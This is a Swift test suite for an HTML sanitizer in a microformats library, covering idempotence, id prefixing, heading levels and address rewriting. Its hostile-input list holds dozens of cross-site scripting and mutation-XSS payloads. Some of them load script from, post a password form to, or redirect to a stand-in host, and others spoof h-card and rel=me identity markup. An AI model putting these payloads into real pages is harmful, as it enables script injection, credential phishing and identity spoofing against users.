import Microformats
import Testing

@Suite("HTMLSanitizer")
struct HTMLSanitizerTests {
    /// Judged on the tree that a browser would build from the output, not by searching the output for bad words.
    @Test("nothing that runs, loads by itself or poses as a microformat survives", arguments: hostileTexts)
    func hostile(text: String) throws {
        let clean = try #require(HTMLSanitizer().sanitize(text))
        #expect(try faults(in: clean.markup).isEmpty, "\(clean.markup)")
    }

    @Test("cleaning what is clean changes nothing", arguments: hostileTexts + harmlessTexts.map(\.0))
    func idempotent(text: String) throws {
        let once = try #require(HTMLSanitizer().sanitize(text))
        #expect(HTMLSanitizer().sanitize(once.markup) == once)
    }

    @Test("what a writer may use is kept", arguments: harmlessTexts)
    func harmless(text: String, expected: String) {
        #expect(HTMLSanitizer().sanitize(text)?.markup == expected)
    }

    @Test("an id and the links to it get the prefix, so that two notes can share a page")
    func identifiers() {
        let sanitizer = HTMLSanitizer(idPrefix: "n7-")
        #expect(
            sanitizer.sanitize("<a href=\"#fn-1\" id=\"fnref-1\">1</a>")?.markup
                == "<a href=\"#n7-fn-1\" id=\"n7-fnref-1\">1</a>"
        )
    }

    @Test("headings are lowered below the page's own, never raised", arguments: zip(1...6, [3, 3, 3, 4, 5, 6]))
    func headings(level: Int, lowered: Int) {
        #expect(
            HTMLSanitizer(topHeading: 3).sanitize("<h\(level)>A</h\(level)>")?.markup == "<h\(lowered)>A</h\(lowered)>"
        )
    }

    @Test("relative addresses become absolute against a whole address, fragments too")
    func absoluteAddresses() {
        let sanitizer = HTMLSanitizer(base: URLReference("https://example.com/note/a"), idPrefix: "n1-")
        #expect(
            sanitizer.sanitize(##"<a href="b?c">1</a><a href="/d">2</a><a href="#e">3</a><img src="../f.png">"##)?
                .markup
                == #"<a href="https://example.com/note/b?c">1</a><a href="https://example.com/d">2</a>"#
                + #"<a href="https://example.com/note/a#n1-e">3</a><img src="https://example.com/f.png" />"#
        )
    }

    @Test("against a path, relative addresses become paths and fragments stay on the page")
    func pathAddresses() {
        let sanitizer = HTMLSanitizer(base: URLReference("/note/a"))
        #expect(
            sanitizer.sanitize(##"<a href="b">1</a><a href="#e">2</a><a href="https://x.example/">3</a>"##)?.markup
                == ##"<a href="/note/b">1</a><a href="#e">2</a><a href="https://x.example/">3</a>"##
        )
    }

    @Test("a text that nests too deep is refused")
    func tooDeep() {
        #expect(HTMLSanitizer().sanitize(String(repeating: "<div>", count: 100_000)) == nil)
        #expect(HTMLSanitizer().sanitize(String(repeating: "<blockquote>", count: 600)) == nil)
    }

    @Test("many unclosed paragraphs and list items are no depth")
    func unclosed() {
        #expect(HTMLSanitizer().sanitize(String(repeating: "<p>a<br><img src=x>", count: 2_000)) != nil)
        #expect(HTMLSanitizer().sanitize("<ul>" + String(repeating: "<li>a", count: 2_000)) != nil)
    }
}

private let hostileTexts = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=data:image/svg+xml;base64,PHN2Zz4= alt=x>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"javascript:\u{FE0F}alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"https://a.example/\" onclick=alert(1) style=\"position:fixed\">x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<input type=image src=x onerror=alert(1)><input type=checkbox autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\"><base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>",
    "<body onload=alert(1)><p>x",
    "<p title=\"&quot; onmouseover=&quot;alert(1)\">x</p>",
    "<p title='\" onmouseover=\"alert(1)'>x</p>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script></title>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div class=\"h-card\"><a class=\"u-url p-name\" rel=\"me\" href=\"https://evil.example/\">Mallory</a></div>",
    "<code class=\"language-swift h-entry e-content\">x</code>",
    "<section class=\"footnotes h-feed\">x</section>",
    "<a rel=\"me authorization_endpoint micropub tag\" href=\"https://evil.example/\">x</a>",
    "</div></article></main><script>alert(1)</script>",
    "<video poster=\"javascript:alert(1)\" src=x onerror=alert(1) autoplay></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=\"https://a.example/\u{0}javascript:\" id=\"\u{0}x\">x</a>",
]

private let harmlessTexts: [(String, String)] = [
    ("a < b & c", "a &lt; b &amp; c"),
    ("<em>a<b>b</em>c</b>", "<em>a<b>b</b></em><b>c</b>"),
    ("<p>a<p>b", "<p>a</p><p>b</p>"),
    ("<blink>a</blink>", "a"),
    ("<pre>\n\na</pre>", "<pre>\n\na</pre>"),
    ("<img src=\"a.png\" alt=\"\" onload=x>", "<img src=\"a.png\" alt=\"\" />"),
    ("<a href=\"mailto:a@b.example\">m</a>", "<a href=\"mailto:a@b.example\">m</a>"),
    ("<a href=\"//b.example/c\">m</a>", "<a href=\"//b.example/c\">m</a>"),
    ("<a href=\"/a:b\">m</a>", "<a href=\"/a:b\">m</a>"),
    (
        "<a href=\"https://b.example/\" rel=\"nofollow me\">m</a>",
        "<a href=\"https://b.example/\" rel=\"nofollow\">m</a>"
    ),
    ("<code class=\"language-c++\">x</code>", "<code class=\"language-c++\">x</code>"),
    (
        "<input type=\"checkbox\" checked=\"\">",
        "<input type=\"checkbox\" checked=\"\" disabled=\"\" aria-label=\"done\" />"
    ),
    (
        "<table><tr><th align=\"center\">a<td align=\"evil\" colspan=\"x\">b</table>",
        "<table><tbody><tr><th align=\"center\">a</th><td>b</td></tr></tbody></table>"
    ),
    ("<video src=\"a.mp4\">", "<video src=\"a.mp4\" controls=\"\"></video>"),
    ("<audio controls src=a.mp3 loop>b", "<audio controls=\"\" src=\"a.mp3\" loop=\"\">b</audio>"),
    ("<ol start=\"3\"><li>a</ol>", "<ol start=\"3\"><li>a</li></ol>"),
]

/// What is wrong with a text, seen as a browser sees it.
private func faults(in markup: String) throws -> [String] {
    try parse(markup, as: .fragment).withRoot { root in root.children.flatMap(faults(of:)) }
}

private func faults(of node: HTMLNode) -> [String] {
    guard case .element(let element) = node else { return [] }
    var faults: [String] = []
    let harmless = [
        "a", "article", "blockquote", "code", "details", "div", "em", "img", "input", "li", "p", "pre", "section",
        "span", "summary", "table", "tbody", "td", "th", "tr", "video",
    ]
    if element.namespace != .html || !harmless.contains(element.name) { faults.append("<\(element.name)>") }
    for (name, value) in element.attributes {
        let isDangerous = name.hasPrefix("on") || ["style", "srcdoc", "srcset", "action", "name"].contains(name)
        if isDangerous { faults.append("\(name)=\(value)") }
        if ["href", "src", "poster"].contains(name), !isHarmlessAddress(value) { faults.append("\(name)=\(value)") }
        let roots = ["h-", "p-", "u-", "dt-", "e-"]
        if name == "class",
            value.split(separator: " ").contains(where: { token in roots.contains { token.hasPrefix($0) } })
        {
            faults.append("class=\(value)")
        }
        if name == "rel", value != "nofollow" { faults.append("rel=\(value)") }
    }
    return faults + element.children.flatMap(faults(of:))
}

/// Judged without the code under test: what stands before a colon, byte for byte, unless a slash comes first.
private func isHarmlessAddress(_ address: String) -> Bool {
    guard let end = address.utf8.firstIndex(where: { $0 == UInt8(ascii: ":") || $0 == UInt8(ascii: "/") }),
        address.utf8[end] == UInt8(ascii: ":")
    else { return true }
    return ["http", "https", "mailto"].contains(String(address[..<end]))
}
